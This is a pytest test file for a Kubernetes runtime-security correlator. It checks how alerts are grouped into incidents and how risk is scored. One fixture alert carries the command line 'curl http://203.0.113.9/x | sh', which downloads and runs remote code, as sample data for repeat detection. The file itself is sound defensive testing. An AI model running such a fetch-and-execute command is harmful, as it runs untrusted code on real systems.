"""Correlator: bounded episodes per workload (gap, max duration, links), signals and context,
counting, risk score, expiry, determinism."""

from __future__ import annotations

import hashlib

import pytest

from kubesentinel.bridge import POSTURE_CAP, posture_key, runtime_impacts
from kubesentinel.models import Event, Incident, Priority, Severity, Workload
from kubesentinel.models.incident import ContextCounts
from kubesentinel.models.posture import Posture, PostureFinding
from kubesentinel.runtime import correlate
from kubesentinel.runtime.correlate import Correlator, kill_chain, severity_of

S = 1_000_000_000
T0 = 1_739_178_940 * S
WEB = Workload("default", "prod", "Deployment", "web")
DB = Workload("default", "prod", "StatefulSet", "db")
SHELL = "Terminal shell in container"


def event(
    event_id: str,
    at_s: float,
    *,
    rule: str = SHELL,
    priority: Priority = Priority.WARNING,
    workload: Workload = WEB,
    tactics: tuple[str, ...] = (),
    techniques: tuple[str, ...] = (),
    cmdline: str | None = None,
    tags: tuple[str, ...] = ("container", "shell"),
) -> Event:
    """A distinct alert (its own command line) unless ``cmdline`` makes it repeat another."""
    time_ns = T0 + int(at_s * S)
    return Event(
        id=event_id,
        time_ns=time_ns,
        received_ns=time_ns + 1000,
        rule=rule,
        priority=priority,
        source="syscall",
        hostname="node-1",
        workload=workload,
        pod=f"{workload.name}-7d4b9c8f5d-x2x4q",
        container_id="3ad7b26ded6d",
        container_image="nginx:1.27",
        tactics=tactics,
        techniques=techniques,
        tags=(*tags, *(f"mitre_{t}" for t in tactics), *techniques),
        output=f"{rule} (user=root)",
        fields={
            "proc.name": "bash",
            "proc.cmdline": f"bash -c {event_id}" if cmdline is None else cmdline,
            "proc.aname[2]": None,
        },
        origin=f"alerts.jsonl:{event_id}",
    )


def attack(order: tuple[str, ...], workload: Workload = WEB) -> list[Event]:
    """One Warning alert per tactic, ten seconds apart, in the given order."""
    rules = {
        "execution": ("Terminal shell in container", "T1059"),
        "credential_access": ("Read sensitive file untrusted", "T1555"),
        "exfiltration": ("Unexpected outbound connection destination", "T1041"),
    }
    return [
        event(f"{workload.name}-{n}", n * 10, rule=rules[t][0], workload=workload,
              tactics=(t,), techniques=(rules[t][1],))
        for n, t in enumerate(order)
    ]  # fmt: skip


def only(incidents: list[Incident]) -> Incident:
    assert len(incidents) == 1, incidents
    return incidents[0]


def test_groups_per_workload() -> None:
    correlator = Correlator()
    events = [event("a", 0), event("b", 1, workload=DB), event("c", 2), event("d", 3, workload=DB)]
    incidents = correlator.add(events, T0 + 3 * S)
    assert [i.workload for i in incidents] == [WEB, DB]
    assert [i.event_ids for i in incidents] == [("a", "c"), ("b", "d")]
    assert [i.status for i in incidents] == ["open", "open"]
    assert correlator.open_count == 2


def test_a_gap_without_signals_closes_the_incident() -> None:
    correlator = Correlator(gap_s=300)
    first = only(correlator.add([event("a", 0), event("b", 299)], T0))
    # Gaps under the limit chain on: the incident is longer than the gap itself.
    assert only(correlator.add([event("c", 598)], T0)).id == first.id
    closed, opened = correlator.add([event("d", 899)], T0)
    assert (closed.id, closed.status, closed.event_ids) == (first.id, "closed", ("a", "b", "c"))
    assert closed.last_ns == T0 + 598 * S
    assert (opened.status, opened.event_ids, opened.first_ns) == ("open", ("d",), T0 + 899 * S)
    assert (opened.id != first.id, opened.previous_id) == (True, None)  # a new episode
    assert correlator.open_count == 1


def test_max_duration_splits_into_linked_incidents() -> None:
    correlator = Correlator(gap_s=300, max_duration_s=3600)
    events = [event(f"e{n}", n * 200) for n in range(55)]  # 3 hours, a signal every 200 s
    final: dict[str, Incident] = {}
    for start in range(0, len(events), 7):
        for incident in correlator.add(events[start : start + 7], T0):
            final[incident.id] = incident
    for incident in correlator.expire(T0 + 10**6 * S):
        final[incident.id] = incident
    chain = list(final.values())
    assert [i.event_count for i in chain] == [19, 19, 17]  # 0..3600 s, 3800..7400 s, 7600..
    assert all(i.last_ns - i.first_ns <= 3600 * S for i in chain)
    assert [i.previous_id for i in chain] == [None, chain[0].id, chain[1].id]
    assert [i.status for i in chain] == ["closed"] * 3
    listed = [event_id for i in chain for event_id in i.event_ids]
    assert listed == [e.id for e in events]  # each signal in exactly one of them
    assert correlator.opened_total == 3


def test_repeats_are_counted_but_neither_open_nor_extend() -> None:
    correlator = Correlator(gap_s=300)
    shell = "bash -c curl http://203.0.113.9/x | sh"
    opened = only(correlator.add([event("a", 0, cmdline=shell)], T0))
    repeats = [event(f"r{n}", 100 * n, cmdline=shell) for n in (1, 2)]
    repeats.append(event("r3", 299, cmdline=shell))
    incident = only(correlator.add(repeats, T0))
    assert incident.id == opened.id
    assert (incident.event_ids, incident.event_count, incident.last_ns) == (("a",), 1, T0)
    assert incident.context == ContextCounts(repeat=3)
    assert incident.context_ids == ("r1", "r2", "r3")
    assert incident.added_context == (("r1", "repeat"), ("r2", "repeat"), ("r3", "repeat"))
    assert [(r.rule, r.count) for r in incident.rules] == [(SHELL, 4)]
    assert incident.reasons[-1].reason == "3 repeated alerts"
    # The repeats did not extend it: it closes a gap after its only signal.
    assert only(correlator.expire(T0 + 301 * S)).status == "closed"
    # Once it is closed, the same alert is a new signal again, in a new incident.
    again = only(correlator.add([event("r4", 400, cmdline=shell)], T0))
    assert (again.id != opened.id, again.event_ids, again.context.total) == (True, ("r4",), 0)


def test_repeats_do_not_continue_an_incident_past_its_max_duration() -> None:
    correlator = Correlator(gap_s=300, max_duration_s=600)
    first = only(correlator.add([event("a", 0, cmdline="x"), event("b", 280), event("c", 560)], T0))
    # 700 s: past the max duration from the first signal, within the gap of the last one.
    incident = only(correlator.add([event("r", 700, cmdline="x")], T0))
    assert (incident.id, incident.context.repeat, correlator.opened_total) == (first.id, 1, 1)
    closed, continued = correlator.add([event("d", 710)], T0)
    assert (closed.id, closed.status) == (first.id, "closed")
    assert (continued.previous_id, continued.event_ids) == (first.id, ("d",))


def test_identical_means_same_rule_process_and_command_line() -> None:
    def alert(event_id: str, rule: str = SHELL, **fields: object) -> Event:
        e = event(event_id, 1)
        e.rule = rule
        e.fields = {"evt.time": event_id, **fields}  # evt.* fields never tell alerts apart
        return e

    correlator = Correlator()
    incident = only(
        correlator.add(
            [
                alert("a", **{"proc.name": "sh", "proc.cmdline": "sh -c id"}),
                alert("b", **{"proc.name": "sh", "proc.cmdline": "sh -c id", "fd.name": "x"}),
                alert("c", **{"proc.name": "sh", "proc.cmdline": "sh -c whoami"}),
                alert("d", rule="Other", **{"proc.name": "sh", "proc.cmdline": "sh -c id"}),
                alert("e", **{"proc.name": "sh"}),  # no command line: the process alone
                alert("f", **{"proc.name": "sh"}),
                alert("g", **{"proc.cmdline": ["odd", "json"]}),  # not text: still compared
                alert("h", **{"proc.cmdline": ["odd", "json"]}),
                alert("k", **{"ka.user.name": "alice", "ka.verb": "create"}),  # no process
                alert("m", **{"ka.user.name": "alice", "ka.verb": "create"}),
                alert("n", **{"ka.user.name": "bob", "ka.verb": "create"}),
            ],
            T0,
        )
    )
    assert incident.event_ids == ("a", "c", "d", "e", "g", "k", "n")
    assert incident.context_ids == ("b", "f", "h", "m")


def test_telemetry_and_low_priority_are_context_only() -> None:
    correlator = Correlator(gap_s=300)
    quiet = [
        event("i1", 0, priority=Priority.INFORMATIONAL),
        event("d1", 10, priority=Priority.DEBUG),
        event("t1", 20, priority=Priority.CRITICAL, tags=("telemetry",)),
    ]
    # No incident is open: they are stored (by the pipeline) but belong to no incident.
    assert correlator.add(quiet, T0) == []
    assert (correlator.open_count, correlator.opened_total) == (0, 0)
    opened = only(correlator.add([event("w", 100)], T0))
    later = [
        event("i2", 150, priority=Priority.INFORMATIONAL),
        event("t2", 390, priority=Priority.ALERT, tags=("container", "telemetry")),
        event("i3", 401, priority=Priority.INFORMATIONAL),  # beyond the gap: no incident
    ]
    incident = only(correlator.add(later, T0))
    assert incident.id == opened.id
    assert (incident.event_ids, incident.last_ns) == (("w",), T0 + 100 * S)
    assert incident.context == ContextCounts(telemetry=1, low_priority=1)
    assert incident.added_context == (("i2", "low_priority"), ("t2", "telemetry"))
    # The score comes from the signals: the Alert-priority telemetry adds nothing.
    assert (incident.risk_score, incident.severity) == (28.0, Severity.MEDIUM)
    assert [r.rule for r in incident.rules] == [SHELL]


def test_context_sample_is_capped() -> None:
    correlator = Correlator()
    context = [event(f"c{n}", n / 10, priority=Priority.DEBUG) for n in range(100)]
    incident = only(correlator.add([event("s", 0), *context], T0))
    assert incident.context == ContextCounts(low_priority=100)
    assert incident.context_ids == tuple(f"c{n}" for n in range(correlate.CONTEXT_SAMPLE))


def test_redelivered_events_are_ignored() -> None:
    correlator = Correlator()
    events = [
        event("a", 0, cmdline="id"),
        event("b", 1, cmdline="id"),  # a repeat
        event("c", 2, priority=Priority.DEBUG),
        event("d", 3, rule="Read sensitive file untrusted"),
    ]
    first = only(correlator.add(events, T0))
    assert correlator.add(events, T0) == []  # the same batch again changes nothing
    assert correlator.add([event("b", 1, cmdline="id"), event("d", 3)], T0) == []
    again = only(correlator.add([event("e", 4)], T0))
    assert again.event_ids == ("a", "d", "e")
    assert again.context == first.context == ContextCounts(low_priority=1, repeat=1)
    assert [(r.rule, r.count) for r in again.rules] == [(SHELL, 3), (first.rules[1].rule, 1)]


def test_rules_keep_their_highest_priority() -> None:
    events = [
        event("a", 0, priority=Priority.NOTICE),
        event("b", 1, rule="Drop and execute new binary in container", priority=Priority.CRITICAL),
        event("c", 2, priority=Priority.WARNING),
        event("d", 3, priority=Priority.NOTICE),
    ]
    incident = only(Correlator().add(events, T0))
    assert [(r.rule, r.count, r.priority) for r in incident.rules] == [
        (SHELL, 3, Priority.WARNING),
        ("Drop and execute new binary in container", 1, Priority.CRITICAL),
    ]


def test_qualification_is_one_replaceable_predicate() -> None:
    def everything(event: Event) -> str | None:
        del event
        return None  # e.g. an anomaly score could make a low-priority event qualify here

    debug = event("x", 0, priority=Priority.DEBUG)
    assert correlate.context_reason(debug) == "low_priority"
    assert Correlator().add([debug], T0) == []
    assert only(Correlator(context_reason=everything).add([debug], T0)).event_ids == ("x",)


def test_each_incident_returned_once_per_call() -> None:
    correlator = Correlator()
    incidents = correlator.add([event(str(n), n) for n in range(20)], T0)
    assert only(incidents).event_count == 20


def test_rules_are_counted_and_redeliveries_ignored() -> None:
    correlator = Correlator()
    events = [event(f"e{n}", n) for n in range(50)]
    events += [event("r1", 51, rule="Read sensitive file untrusted")]
    incident = only(correlator.add(events, T0))
    assert [(r.rule, r.count) for r in incident.rules] == [
        (SHELL, 50),
        ("Read sensitive file untrusted", 1),
    ]
    assert incident.event_count == 51
    assert len(set(incident.event_ids)) == 51
    # A redelivered event (same id) changes nothing, so nothing is returned for it.
    assert correlator.add([event("e3", 3), event("r1", 51)], T0) == []
    again = only(correlator.add([event("r2", 52, rule="Read sensitive file untrusted")], T0))
    assert again.event_count == 52
    assert again.rules[1].count == 2


def test_every_signal_id_is_listed_without_cap() -> None:
    correlator = Correlator()
    events = [event(f"e{n}", n / 100) for n in range(5_000)]
    states = [only(correlator.add(events[i : i + 2048], T0)) for i in range(0, 5_000, 2048)]
    incident = states[-1]
    assert incident.event_count == 5_000
    assert list(incident.event_ids) == [e.id for e in events]
    assert incident.event_ids[4_999] == "e4999"
    assert incident.event_ids[-1] == "e4999"
    assert incident.event_ids[1:3] == ("e1", "e2")
    # Each state lists what it added (the store files events by it), and earlier states are
    # not changed by later ones.
    assert [len(s.added_ids) for s in states] == [2048, 2048, 904]
    assert len(states[0].event_ids) == 2048
    assert only(correlator.expire(T0 + 10**4 * S)).added_ids == ()


def test_late_event_joins_and_moves_first_time_back() -> None:
    correlator = Correlator()
    correlator.add([event("a", 100)], T0)
    incident = only(correlator.add([event("late", 40)], T0))
    assert (incident.first_ns, incident.last_ns) == (T0 + 40 * S, T0 + 100 * S)
    assert incident.event_ids == ("a", "late")


def test_stragglers_from_an_older_period_get_their_own_incident() -> None:
    correlator = Correlator(window_s=60)
    current = only(correlator.add([event("now", 10_000)], T0))
    old = only(correlator.add([event("old1", 100)], T0))  # far older than the window
    assert old.id != current.id
    assert only(correlator.add([event("old2", 130)], T0)).id == old.id
    assert only(correlator.add([event("now2", 10_030)], T0)).event_ids == ("now", "now2")
    assert correlator.open_count == 2
    # The older period expires first; the current incident stays open.
    assert [(i.id, i.event_ids) for i in correlator.expire(T0 + 10_000 * S)] == [
        (old.id, ("old1", "old2"))
    ]
    assert correlator.open_count == 1
    # A quiet gap closes what is left of the workload, stragglers included.
    correlator.add([event("old3", 500)], T0)
    closed = correlator.add([event("next", 20_000)], T0)
    assert [(i.event_ids, i.status) for i in closed] == [
        (("old3",), "closed"),
        (("now", "now2"), "closed"),
        (("next",), "open"),
    ]
    assert correlator.open_count == 1


def test_one_warning_is_medium_and_repeats_never_dominate() -> None:
    one = only(Correlator().add([event("a", 0)], T0))
    assert (one.risk_score, one.severity) == (28.0, Severity.MEDIUM)
    assert [(r.points, r.reason) for r in one.reasons] == [(28.0, "highest Falco priority Warning")]
    noise = only(Correlator().add([event(f"n{n}", n / 1000) for n in range(100_000)], T0))
    assert noise.severity == Severity.MEDIUM
    assert noise.reasons[-1].reason == "99999 repeated alerts"
    assert noise.reasons[-1].points == correlate.REPEAT_CAP
    notice = [event(f"n{n}", n, priority=Priority.NOTICE) for n in range(1000)]
    assert only(Correlator().add(notice, T0)).severity == Severity.LOW


def test_priority_sets_the_base() -> None:
    critical = only(Correlator().add([event("a", 0, priority=Priority.CRITICAL)], T0))
    assert (critical.risk_score, critical.severity) == (50.0, Severity.HIGH)
    mixed = [event("a", 0, priority=Priority.NOTICE), event("b", 1, priority=Priority.ERROR)]
    assert only(Correlator().add(mixed, T0)).reasons[0].reason == "highest Falco priority Error"


def test_kill_chain_order_raises_severity() -> None:
    in_order = only(
        Correlator().add(attack(("execution", "credential_access", "exfiltration")), T0)
    )
    reversed_ = only(
        Correlator().add(attack(("exfiltration", "credential_access", "execution")), T0)
    )
    assert in_order.tactics == ("execution", "credential_access", "exfiltration")
    assert reversed_.tactics == ("exfiltration", "credential_access", "execution")
    assert in_order.techniques == ("T1059", "T1555", "T1041")
    # Warning 28 + 3 rules 8 + 3 tactics 12 (+ 3 tactics in order 16).
    assert (reversed_.risk_score, reversed_.severity) == (48.0, Severity.MEDIUM)
    assert (in_order.risk_score, in_order.severity) == (64.0, Severity.HIGH)
    chain = [r for r in in_order.reasons if "kill-chain" in r.reason]
    assert [(r.points, r.reason) for r in chain] == [
        (
            16.0,
            "3 MITRE tactics in kill-chain order: execution -> credential_access -> exfiltration",
        )
    ]


def test_tactics_of_one_event_are_no_progression() -> None:
    both = event("a", 0, rule="Schedule Cron Jobs", tactics=("execution", "persistence"))
    incident = only(Correlator().add([both], T0))
    assert incident.tactics == ("execution", "persistence")
    assert not any("kill-chain" in r.reason for r in incident.reasons)


def test_kill_chain_is_the_longest_ordered_run() -> None:
    seen = [("discovery", 1), ("execution", 2), ("persistence", 3), ("not_a_tactic", 4),
            ("credential_access", 5), ("initial_access", 6), ("exfiltration", 7)]  # fmt: skip
    assert kill_chain(seen) == ("execution", "persistence", "credential_access", "exfiltration")
    assert kill_chain([("execution", 1), ("persistence", 1)]) == ("execution",)
    assert kill_chain([]) == ()


def finding(rule_id: str, severity: Severity, title: str) -> PostureFinding:
    """A posture finding with its rule's runtime impact, as the bridge's loaders give it."""
    return PostureFinding(rule_id, severity, title, runtime_impacts().get(rule_id))


def test_posture_raises_score_and_is_listed() -> None:
    posture = Posture(
        workloads={
            WEB.key: (
                finding("KS-0042", Severity.MEDIUM, "Memory request missing"),
                finding("KS-0005", Severity.HIGH, "HostPath volume"),
                finding("KS-0001", Severity.CRITICAL, "Privileged container"),
                finding("KS-0001", Severity.CRITICAL, "Privileged container"),
            )
        },
        source="scan.json",
    )
    events = attack(("execution", "credential_access", "exfiltration"))
    plain = only(Correlator().add(events, T0))
    exposed = only(Correlator(posture=posture).add(events, T0))
    assert plain.posture == ()
    assert exposed.posture == ("KS-0001", "KS-0005", "KS-0042")
    assert exposed.risk_score == plain.risk_score + 19  # critical 12 + high 7; KS-0042 is no risk
    assert (plain.severity, exposed.severity) == (Severity.HIGH, Severity.CRITICAL)
    assert exposed.reasons[-1].reason == (
        "workload posture: KS-0001 privileged (critical), KS-0005 hostPath (high)"
    )
    other = only(Correlator(posture=posture).add([event("x", 0, workload=DB)], T0))
    assert other.posture == ()


def test_posture_is_capped_and_score_clamped() -> None:
    findings = tuple(
        finding(rule_id, Severity.CRITICAL, "bad")
        for rule_id in ("KS-0001", "KS-0013", "KS-0031", "KS-0035", "KS-0036")
    )
    posture = Posture(workloads={WEB.key: findings})
    tactics = ("execution", "persistence", "privilege_escalation", "credential_access",
               "discovery", "exfiltration")  # fmt: skip
    events = [
        event(f"e{n}", n, rule=f"rule {n}", priority=Priority.EMERGENCY, tactics=(t,))
        for n, t in enumerate(tactics)
    ]
    incident = only(Correlator(posture=posture).add(events, T0))
    posture_reason = next(r for r in incident.reasons if r.reason.startswith("workload posture"))
    assert posture_reason.points == POSTURE_CAP
    assert (incident.risk_score, incident.severity) == (100.0, Severity.CRITICAL)


def test_host_workload_without_namespace_reads_default_posture() -> None:
    host = Workload("default", "", "Pod", "debug")
    posture = Posture(
        workloads={
            posture_key("default", "default", "Pod", "debug"): (
                finding("KS-0001", Severity.CRITICAL, "p"),
            )
        }
    )
    assert only(Correlator(posture=posture).add([event("a", 0, workload=host)], T0)).posture == (
        "KS-0001",
    )


def test_posture_of_one_cluster_leaves_the_same_names_in_another_alone() -> None:
    web_staging = Workload("staging", WEB.namespace, WEB.kind, WEB.name)
    posture = Posture(
        workloads={
            posture_key("prod", "prod", "Deployment", "web"): (
                finding("KS-0001", Severity.CRITICAL, "Privileged container"),
            )
        },
        cluster="prod",
    )
    web_prod = Workload("prod", WEB.namespace, WEB.kind, WEB.name)
    prod = only(Correlator(posture=posture).add([event("a", 0, workload=web_prod)], T0))
    staging = only(Correlator(posture=posture).add([event("a", 0, workload=web_staging)], T0))
    assert (prod.posture, staging.posture) == (("KS-0001",), ())
    assert prod.risk_score == staging.risk_score + 12


def test_expire_closes_once_and_frees_memory() -> None:
    correlator = Correlator(window_s=60)
    opened = only(correlator.add([event("a", 0), event("b", 30)], T0 + 30 * S))
    assert correlator.expire(T0 + 90 * S) == []  # exactly the window: still open
    closed = only(correlator.expire(T0 + 91 * S))
    assert (closed.id, closed.status, closed.event_count) == (opened.id, "closed", 2)
    assert correlator.open_count == 0
    assert correlator.expire(T0 + 500 * S) == []
    later = only(correlator.add([event("c", 100)], T0 + 100 * S))
    assert later.id != opened.id
    assert later.event_ids == ("c",)


def test_incident_id_is_stable() -> None:
    incident = only(Correlator().add([event("first", 0), event("second", 1)], T0))
    expected = hashlib.sha256(f"{WEB.key}\nfirst".encode()).hexdigest()[:16]
    assert incident.id == expected


def test_same_input_same_incidents_whatever_the_batching() -> None:
    events = [
        *attack(("execution", "credential_access", "exfiltration")),
        *attack(("exfiltration", "execution"), workload=DB),
        *(event(f"n{n}", 40 + n * 100) for n in range(12)),
        *(event(f"r{n}", 45 + n * 100, cmdline="same") for n in range(12)),
        *(event(f"d{n}", 47 + n * 100, priority=Priority.DEBUG) for n in range(12)),
    ]
    events.sort(key=lambda e: e.time_ns)

    def run(batch: int) -> list[Incident]:
        correlator = Correlator(gap_s=120, max_duration_s=500)
        final: dict[str, Incident] = {}
        for start in range(0, len(events), batch):
            chunk = events[start : start + batch]
            for incident in correlator.add(chunk, chunk[-1].time_ns):
                final[incident.id] = incident
        for incident in correlator.expire(T0 + 10**6 * S):
            final[incident.id] = incident
        return sorted(final.values(), key=lambda i: i.id)

    whole = run(len(events))
    assert whole == run(len(events))
    assert whole == run(1)
    assert whole == run(4)
    assert all(i.status == "closed" for i in whole)
    assert sum(i.previous_id is not None for i in whole) == 2  # web: 0-440, 540-1040, 1140-
    # 12 Debug events and 12 identical alerts: the first of those in each web incident is a
    # signal, the rest repeats.
    assert sum(i.context.total for i in whole) == 24 - 3


def test_thresholds() -> None:
    assert [severity_of(s) for s in (0, 24.9, 25, 49.9, 50, 79.9, 80, 100)] == [
        Severity.LOW, Severity.LOW, Severity.MEDIUM, Severity.MEDIUM,
        Severity.HIGH, Severity.HIGH, Severity.CRITICAL, Severity.CRITICAL,
    ]  # fmt: skip


def test_gap_and_max_duration_must_be_positive() -> None:
    with pytest.raises(ValueError, match="gap_s must be positive"):
        Correlator(gap_s=0)
    with pytest.raises(ValueError, match="gap_s must be positive"):
        Correlator(window_s=-1)  # the deprecated name of gap_s
    with pytest.raises(ValueError, match="max_duration_s must be positive"):
        Correlator(max_duration_s=0)
